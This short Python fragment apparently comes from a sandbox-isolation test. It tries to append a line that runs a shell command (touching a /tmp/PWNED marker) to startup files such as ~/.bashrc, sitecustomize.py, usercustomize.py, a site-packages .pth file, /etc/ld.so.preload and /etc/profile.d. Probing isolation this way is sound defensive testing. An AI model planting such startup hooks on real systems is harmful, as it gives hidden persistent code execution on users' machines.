# tries: files that a Python, a shell or a loader that starts later would read
import site

planted = "import os; os.system('touch /tmp/PWNED')\n"
for path in (
    os.path.expanduser("~/.bashrc"),
    os.path.dirname(HOME_SECRET) + "/.bashrc",
    os.path.dirname(HOME_SECRET) + "/.config/PWNED",
    site.getusersitepackages() + "/usercustomize.py",
    os.path.dirname(np.__file__) + "/../PWNED.pth",
    os.path.dirname(os.__file__) + "/sitecustomize.py",
    str(TREE / "src" / "sitecustomize.py"),
    "/etc/ld.so.preload",
    "/etc/profile.d/PWNED.sh",
):
    with suppress(OSError):
        os.makedirs(os.path.dirname(path), exist_ok=True)
        open(path, "a", encoding="utf-8").write(planted)
